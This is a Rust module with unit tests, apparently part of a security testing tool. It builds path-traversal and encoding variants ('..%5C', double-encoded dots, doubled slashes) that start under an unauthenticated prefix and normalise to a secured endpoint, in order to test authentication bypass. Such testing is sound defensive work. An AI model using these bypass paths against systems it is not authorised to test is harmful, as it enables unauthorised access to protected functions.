//! Paths that begin as one and arrive as another.
//!
//! A front end that compares prefixes sees the path as it was sent; the host decodes it once and normalises it, so
//! `/api/health/..%5CSecuredFunction` is excluded on the way in and secured on arrival.

/// One odd path and what is odd about it.
#[derive(Clone, Debug, Eq, PartialEq)]
pub(super) struct Walk {
    pub(super) how: String,
    pub(super) path: String,
}

/// How a step up can be written, and the words for it. The third is decoded twice on its way.
const STEPS_UP: [(&str, &str); 3] = [
    ("../", ".."),
    ("..%5C", "..%5C"),
    ("%252E%252E/", "%252E%252E"),
];

/// From below `prefix` up and over to `secured`, in each way of writing.
pub(super) fn from(prefix: &str, secured: &str) -> Vec<Walk> {
    let start = segments(prefix);
    let goal = segments(secured);
    let common = start.iter().zip(&goal).take_while(|(a, b)| a == b).count();
    let ups = start.len() - common;
    let rest = goal.get(common..).unwrap_or_default().join("/");
    let base = start.join("/");
    let base = if base.is_empty() {
        String::new()
    } else {
        format!("/{base}")
    };
    let walk = |how: &str, path: String| Walk {
        how: format!("through {prefix} by {how}"),
        path,
    };
    let mut walks: Vec<Walk> = STEPS_UP
        .iter()
        .map(|(step, how)| walk(how, format!("{base}/{}{rest}", step.repeat(ups))))
        .collect();
    // An empty segment takes a step of its own.
    let doubled = format!("{base}//{}{rest}", "..%5C".repeat(ups + 1));
    walks.push(walk("// and ..%5C", doubled));
    walks.dedup_by(|a, b| a.path == b.path);
    walks
}

/// The secured path with each of its first slashes doubled, for software that merges them.
pub(super) fn doubled_slashes(secured: &str) -> Vec<Walk> {
    let last = secured.rfind('/').unwrap_or_default();
    let (before, after) = secured.split_at(last);
    let mut walks = vec![Walk {
        how: "with // before the path".to_owned(),
        path: format!("/{secured}"),
    }];
    if !before.is_empty() {
        walks.push(Walk {
            how: "with // inside the path".to_owned(),
            path: format!("{before}/{after}"),
        });
    }
    walks
}

fn segments(path: &str) -> Vec<&str> {
    path.split('/')
        .filter(|segment| !segment.is_empty())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn paths(walks: &[Walk]) -> Vec<&str> {
        walks.iter().map(|walk| walk.path.as_str()).collect()
    }

    #[test]
    fn a_walk_leaves_the_prefix_and_arrives_at_the_secured_path() {
        assert_eq!(
            paths(&from("/api/health", "/api/SecuredFunction")),
            [
                "/api/health/../SecuredFunction",
                "/api/health/..%5CSecuredFunction",
                "/api/health/%252E%252E/SecuredFunction",
                "/api/health//..%5C..%5CSecuredFunction",
            ]
        );
        assert_eq!(
            paths(&from("/open/docs/", "/api/a/b"))[1],
            "/open/docs/..%5C..%5Capi/a/b"
        );
    }

    #[test]
    fn each_walk_begins_with_its_prefix() {
        for prefix in ["/api/health", "/", "/api", "/x/y/z"] {
            for walk in from(prefix, "/api/S") {
                assert!(walk.path.starts_with(prefix), "{walk:?}");
                assert!(walk.path.ends_with('S'), "{walk:?}");
            }
        }
    }

    #[test]
    fn slashes_are_doubled_before_and_inside() {
        assert_eq!(paths(&doubled_slashes("/api/S")), ["//api/S", "/api//S"]);
        assert_eq!(paths(&doubled_slashes("/S")), ["//S"]);
    }
}
